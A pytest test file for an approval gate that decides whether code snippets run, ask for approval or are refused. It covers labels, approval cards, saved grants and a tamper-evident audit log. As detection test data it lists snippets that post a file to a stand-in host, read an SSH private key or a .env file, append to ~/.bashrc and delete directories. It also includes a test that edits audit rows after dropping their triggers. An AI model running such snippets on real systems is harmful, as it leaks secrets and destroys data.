"""The approval gate through the real broker: the decision table of
DESIGN.md row by row, the spec's measured table, cards, grants, audit."""
import hashlib
import os
import signal
import sqlite3
import subprocess
import time

import pytest

from conftest import KOTOBA, Client, ensure_user
from test_system import as_user

PLAIN = "print(sum(range(10)))"
LABELLED = "import shutil\nshutil.rmtree('/nonexistent-kotoba-test')\n"
FAMILY_BUTTON = "Always allow her to run Python"
FAMILY_DETAIL = ("Any code she writes then runs on this computer without asking, until you "
                 "revoke it in Settings.")


def outcome(broker, code, channel=True, answer="deny"):
    """Runs code on a fresh connection; returns (card or None, end frame, stdout)."""
    c = broker.client(channel=channel)
    seen = []

    def on_card(cl, m):
        seen.append(m)
        cl.send({"type": "answer", "card": m["card"], "choice": answer})

    c.exec(code)
    out = c.until_end(on_card=on_card)
    c.close()
    return (seen[0] if seen else None), out["end"], out["stdout"]


def save_grant(broker):
    card, end, _ = outcome(broker, PLAIN, answer="always")
    assert card is not None and end["type"] == "exit", end


# ---- DESIGN.md's decision table -------------------------------------------

def test_local_channel_no_grant_asks_every_time(broker):
    for _ in range(2):
        card, end, _ = outcome(broker, PLAIN)
        assert card is not None and card["labels"] == []
        assert end["type"] == "error" and end["code"] == "denied"


def test_local_channel_grant_plain_runs_without_card(broker):
    save_grant(broker)
    card, end, out = outcome(broker, PLAIN)
    assert card is None
    assert end["type"] == "exit" and out == b"45\n"
    assert end["approver"] == "grant" and end["profile"] == "unattended"


def test_local_channel_grant_labelled_asks_naming_labels(broker):
    save_grant(broker)
    card, end, _ = outcome(broker, LABELLED)
    assert card is not None
    assert [l["label"] for l in card["labels"]] == ["fs-destroy"]
    assert card["labels"][0]["line"] == 2
    assert "grant never covers" in card["reason"]


# Docker mode with an engine nobody can reach: the rows of the table hold,
# and whatever should run fails at the engine step, never on the host.
# tests/container/ runs the same rows against a real podman.
DOCKER_UNREACHABLE = ("[broker]\nsandbox = docker\n[docker]\ncli = podman\n"
                      "image = localhost/kotoba-test-python:bookworm\n"
                      "url = unix:///nonexistent/kotoba-engine.sock\n")
# Prints if it runs anywhere; unlabelled, so it runs without a card.
RAN_MARK = "import os\nprint('ran on', os.uname().nodename)\n"


def assert_never_on_host(end, out):
    assert end["type"] == "error" and end["code"] == "setup-failed", end
    assert end["step"] == "engine" and out == b"", end
    assert "nothing ever runs on the host instead" in end["message"]


def test_docker_plain_runs_without_card_and_never_on_host(make_broker):
    b = make_broker(config=DOCKER_UNREACHABLE).start()
    card, end, out = outcome(b, RAN_MARK)
    assert card is None
    assert_never_on_host(end, out)


def test_docker_no_channel_plain_never_on_host(make_broker):
    b = make_broker(config=DOCKER_UNREACHABLE).start()
    card, end, out = outcome(b, RAN_MARK, channel=False)
    assert card is None
    assert_never_on_host(end, out)


def test_docker_labelled_asks(make_broker):
    b = make_broker(config=DOCKER_UNREACHABLE).start()
    card, end, _ = outcome(b, LABELLED)
    assert card is not None and end["code"] == "denied"


def test_docker_approved_card_never_runs_on_host(make_broker):
    b = make_broker(config=DOCKER_UNREACHABLE).start()
    card, end, out = outcome(b, "import shutil\nshutil.rmtree('/nonexistent-kotoba')\n"
                             + RAN_MARK, answer="once")
    assert card is not None
    assert_never_on_host(end, out)


def test_docker_needs_an_image(make_broker):
    with pytest.raises(RuntimeError, match=r"sandbox = docker needs \[docker\] image"):
        make_broker(extra_args=["--sandbox", "docker"]).start()


@pytest.mark.parametrize("config", ["", DOCKER_UNREACHABLE], ids=["local", "docker"])
def test_no_channel_labelled_is_refused_in_plain_words(make_broker, config):
    b = make_broker(config=config).start()
    card, end, _ = outcome(b, "import requests\nrequests.post('https://x.example', data=open('/etc/hostname').read())", channel=False)
    assert card is None and end["code"] == "refused"
    assert "sends data out over the network" in end["message"]
    assert "data-out" in end["message"]


def test_no_channel_plain_runs_unattended(broker):
    card, end, out = outcome(broker, PLAIN, channel=False)
    assert card is None and out == b"45\n"
    assert end["approver"] == "unattended" and end["profile"] == "unattended"


def test_unattended_policy_refuse(make_broker):
    b = make_broker(config="[gate]\nunattended = refuse\n").start()
    card, end, _ = outcome(b, PLAIN, channel=False)
    assert end["code"] == "refused"


# ---- cards -----------------------------------------------------------------

def test_card_carries_snippet_and_spec_wording(broker):
    card, _, _ = outcome(broker, LABELLED)
    assert card["snippet"] == LABELLED
    assert card["options"] == ["once", "always", "deny"]
    assert card["family"] == "execute_code"
    assert card["family_text"] == {"button": FAMILY_BUTTON, "detail": FAMILY_DETAIL}


def test_once_runs_approved_profile_and_saves_nothing(broker):
    card, end, out = outcome(broker, PLAIN, answer="once")
    assert end["type"] == "exit" and out == b"45\n"
    assert end["approver"] == "user" and end["profile"] == "approved"
    assert outcome(broker, PLAIN)[0] is not None  # still asks


def test_always_saves_grant_under_family_token(broker):
    save_grant(broker)
    p = broker.kotoba("approvals", "ls")
    assert p.returncode == 0 and b"execute_code" in p.stdout
    assert outcome(broker, "print('different snippet')")[0] is None


def test_card_expires_and_is_recorded_as_expired(make_broker):
    b = make_broker(config="[gate]\ncard_timeout = 1\n").start()
    c = b.client(channel=True)
    c.exec(PLAIN)
    card = c.recv()
    assert card["type"] == "card"
    end = c.recv()
    assert end["type"] == "error" and end["code"] == "expired"
    p = b.kotoba("audit", "tail")
    assert b"expired" in p.stdout and b"denied" not in p.stdout


def test_double_answer_refused_and_runs_once(broker):
    c = broker.client(channel=True)
    c.exec("print('once only')")
    card = c.recv()
    c.send({"type": "answer", "card": card["card"], "choice": "once"})
    c.send({"type": "answer", "card": card["card"], "choice": "once"})
    frames = []
    while True:
        m = c.recv()
        frames.append(m)
        if m["type"] == "exit":
            break
    errors = [m for m in frames if m["type"] == "error"]
    if not errors:
        errors = [c.recv()]
    assert errors[0]["code"] == "no-such-card"
    outputs = [m for m in frames if m["type"] == "output"]
    assert b"".join(m["data"] for m in outputs) == b"once only\n"


def test_answer_from_another_connection_refused(broker):
    owner = broker.client(channel=True)
    owner.exec(PLAIN)
    card = owner.recv()
    thief = broker.client(channel=True)
    thief.send({"type": "answer", "card": card["card"], "choice": "always"})
    assert thief.recv()["code"] == "no-such-card"
    # the owner's card is untouched and no grant was saved
    owner.send({"type": "answer", "card": card["card"], "choice": "deny"})
    assert owner.recv()["code"] == "denied"
    assert b"no saved grants" in broker.kotoba("approvals", "ls").stdout


def test_cli_answer_flag(broker):
    p = broker.kotoba("run", "-c", PLAIN, "--answer", "once")
    assert p.returncode == 0 and p.stdout == b"45\n"
    p = broker.kotoba("run", "-c", PLAIN, "--answer", "deny")
    assert p.returncode == 126 and b"denied" in p.stderr


def test_cli_without_terminal_denies_and_says_how(broker):
    p = subprocess.run([KOTOBA, "run", "-c", PLAIN, "--socket", broker.socket],
                       capture_output=True, stdin=subprocess.DEVNULL, start_new_session=True)
    assert p.returncode == 126
    assert b"--answer" in p.stderr and b"--no-channel" in p.stderr


def test_cli_json_has_decision(broker):
    import json
    p = broker.kotoba("run", "-c", LABELLED.replace("/nonexistent", "/tmp/none"), "--answer",
                      "once", "--json")
    r = json.loads(p.stdout)
    assert r["labels"] == ["fs-destroy"] and r["approver"] == "user"
    assert r["decision"] == "ran" and r["profile"] == "approved"


# ---- grants: persistence, revocation, crashes -------------------------------

def test_grant_survives_restart(make_broker):
    b = make_broker().start()
    save_grant(b)
    b.stop()
    b.start()
    assert outcome(b, PLAIN)[0] is None


def test_revoke_takes_effect_next_snippet(broker):
    save_grant(broker)
    p = broker.kotoba("approvals", "rm", "execute_code")
    assert p.returncode == 0 and b"revoked" in p.stdout
    assert outcome(broker, PLAIN)[0] is not None
    p = broker.kotoba("approvals", "rm", "execute_code")
    assert b"no execute_code grant" in p.stdout


def test_kill9_during_grant_write_leaves_store_consistent(make_broker):
    b = make_broker().start()
    for _ in range(5):
        c = b.client(channel=True)
        c.exec(PLAIN)
        card = c.recv()
        c.send({"type": "answer", "card": card["card"], "choice": "always"})
        b.proc.send_signal(signal.SIGKILL)
        b.proc.wait()
        b.log.close()
        db = sqlite3.connect(os.path.join(b.state, "kotoba.db"))
        assert db.execute("pragma integrity_check").fetchone()[0] == "ok"
        db.close()
        b.start()
        assert b.kotoba("audit", "verify").returncode == 0
        b.kotoba("approvals", "rm", "execute_code")


# ---- audit -----------------------------------------------------------------

def test_audit_records_decisions_and_runs(broker):
    outcome(broker, PLAIN, answer="once")
    outcome(broker, LABELLED, channel=False)
    p = broker.kotoba("audit", "tail")
    text = p.stdout.decode()
    assert "card" in text and "ran" in text and "refused" in text and "exit 0" in text
    assert broker.kotoba("audit", "verify").returncode == 0


def test_audit_verify_detects_edited_row(make_broker):
    b = make_broker().start()
    outcome(b, PLAIN, answer="once")
    outcome(b, PLAIN, answer="deny")
    b.stop()
    db = sqlite3.connect(os.path.join(b.state, "kotoba.db"))
    # an attacker with write access: drop the append-only triggers, then edit
    for (name,) in db.execute("select name from sqlite_master where type='trigger'").fetchall():
        db.execute('drop trigger "%s"' % name)
    db.execute("update audit set decision='ran' where decision='denied'")
    db.commit()
    db.close()
    b.start()
    p = b.kotoba("audit", "verify")
    assert p.returncode != 0 and b"broken at row" in p.stderr


def tail_hashes(socket_path):
    """The sha256 of every audit row the connecting user is shown."""
    c = Client(socket_path)
    c.hello()
    c.send({"type": "audit", "id": 1, "op": "tail", "max": 256})
    m = c.recv()
    c.close()
    assert m["type"] == "audit_rows", m
    return [r["sha256"] for r in m["rows"]]


def run_unattended(socket_path, code):
    c = Client(socket_path)
    c.hello()
    c.exec(code, cwd="/")
    end = c.until_end()["end"]
    c.close()
    return end["type"]


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root: two real users on one broker")
def test_audit_tail_shows_only_own_rows(make_broker):
    """Two real users on one broker: each one's tail holds each of its own
    runs and none of the other's."""
    other = ensure_user("kotoba-ta")
    b = make_broker(config="[broker]\nallow_users = kotoba-ta root\n").start()
    mine, theirs = "print('root %d' % 1)", "print('kotoba-ta %d' % 2)"
    sha = {code: hashlib.sha256(code.encode()).hexdigest() for code in (mine, theirs)}
    assert run_unattended(b.socket, mine) == "exit"
    assert as_user(other, run_unattended, b.socket, theirs) == "exit"
    own = tail_hashes(b.socket)
    their_own = as_user(other, tail_hashes, b.socket)
    # each run is a decision row and an exit row
    assert own.count(sha[mine]) == 2 and sha[theirs] not in own, own
    assert their_own.count(sha[theirs]) == 2 and sha[mine] not in their_own, their_own


# ---- the spec's measured table, with a grant saved ---------------------------

ASKS = {
    "writing a file": ("open('out.txt', 'w').write('x')", ["fs-write"]),
    "appending to a dotfile": ("import os\nopen(os.path.expanduser('~/.bashrc'), 'a')", ["fs-write"]),
    "shutil.rmtree": ("import shutil\nshutil.rmtree('d')", ["fs-destroy"]),
    "subprocess.run": ("import subprocess\nsubprocess.run(['ls'])", ["shell-spawn"]),
    "import os as o": ("import os as o\nprint(o.getcwd())", ["shell-spawn"]),
    "ctypes": ("import ctypes\nctypes.CDLL(None)", ["shell-spawn"]),
    "importlib": ("import importlib\nimportlib.import_module('json')", ["shell-spawn"]),
    "eval": ("print(eval('1+1'))", ["dynamic-eval"]),
    "raw socket": ("import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_RAW)", ["raw-socket"]),
    "http post": ("import requests\nrequests.post('https://example.com', data={'a': 1})", ["data-out"]),
    "get with f-string": ("import requests\nu = 'x'\nrequests.get(f'https://example.com/{u}')", ["data-out"]),
    "ssh key": ("print(open('/root/.ssh/id_rsa').read())", ["secret-read"]),
    "a .env": ("print(open('.env').read())", ["secret-read"]),
}

RUNS = {
    "plain computation": "print(2**64)",
    "bare import subprocess": "import subprocess\nprint('imported')",
    "read outside cwd": "print(open('/etc/hostname').read())",
    "list another directory": "import os\nprint(len(os.listdir('/usr')))",
    "plain requests.get": "try:\n    import requests\n    requests.get('http://127.0.0.1:9/')\nexcept Exception as e:\n    print(type(e).__name__)",
}


@pytest.fixture(scope="module")
def granted():
    import shutil
    import tempfile
    from conftest import Broker
    # traversable by the service user a root-started broker becomes
    d = tempfile.mkdtemp(prefix="kotoba-granted-")
    os.chmod(d, 0o755)
    b = Broker(d).start()
    save_grant(b)
    yield b
    b.stop()
    shutil.rmtree(d, ignore_errors=True)


@pytest.mark.parametrize("name", sorted(ASKS))
def test_spec_table_asks(granted, name):
    code, labels = ASKS[name]
    card, end, _ = outcome(granted, code)
    assert card is not None, name
    got = [l["label"] for l in card["labels"]]
    for label in labels:
        assert label in got, (name, got)
    assert end["code"] == "denied"


@pytest.mark.parametrize("name", sorted(RUNS))
def test_spec_table_runs_without_card(granted, name):
    card, end, _ = outcome(granted, RUNS[name])
    assert card is None, (name, card and card["labels"])
    assert end["type"] == "exit" and end["approver"] == "grant"


def test_kotoba_scan_offline(tmpdir_k):
    path = os.path.join(tmpdir_k, "s.py")
    with open(path, "w") as f:
        f.write("x = 1\nimport os as o\n")
    p = subprocess.run([KOTOBA, "scan", path], capture_output=True)
    assert p.returncode == 1 and b"shell-spawn" in p.stdout and b"line 2" in p.stdout
    p = subprocess.run([KOTOBA, "scan", "-"], input=b"print(1)\n", capture_output=True)
    assert p.returncode == 0
